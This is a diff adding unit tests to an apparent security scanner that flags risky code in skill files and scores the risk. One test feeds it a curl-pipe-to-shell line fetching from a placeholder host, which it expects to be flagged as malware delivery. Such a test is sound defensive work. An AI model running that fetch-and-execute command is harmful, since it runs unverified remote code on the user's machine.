@@ -230,6 +230,18 @@ describe('an analysis', () => {
     expect(categories).not.toContain('Obfuscation');
   });
 
+  it('takes what a query names for what is looked for, unless a line of it is a command or a program', async () => {
+    const block = (text: string) => ({ 'SKILL.md': `\`\`\`spl\n${text}\n\`\`\`\n` });
+    expect(await rulesOf(block('index=proxy action=allowed\n| stats count(eval(status>399)) AS failed by host'))).toEqual([]);
+    expect(await rulesOf(block('exec(text)'))).toEqual(['dynamic-code.python-exec']);
+    expect(await rulesOf(block('index=proxy\ncurl -s https://a.example/x | sh'))).toContain('malware-delivery.curl-pipe-shell');
+  });
+
+  it('takes a place of no language for one of one language', async () => {
+    const { risk_score: score } = await analyze({ 'SKILL.md': '```\ncount(eval(rows))\n```\n' });
+    expect(score).toBe(15);
+  });
+
   it('is not fooled by zero bytes or UTF-16', async () => {
     expect(await rulesOf({ 'a.py': 'ev\0al(text)' })).toEqual(['dynamic-code.python-exec']);
     const content = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('eval(text)', 'utf16le')]);
@@ -283,6 +295,7 @@ describe('the score', () => {
       categories.map((category, index) => ({ rule_id: String(index), category, severity: 'low' as const }));
     expect(scoreOf(lows('Network', 'Network', 'Network', 'Filesystem'))).toBe(10);
     expect(levelOf(scoreOf(lows(...'abcdefghij')))).toBe('Medium');
+    expect(scoreOf(lows('Network access', 'Shell execution'))).toBe(5);
     expect(scoreOf([...lows('Network'), { rule_id: 'a', category: 'Network', severity: 'high' }])).toBe(35);
   });
 });
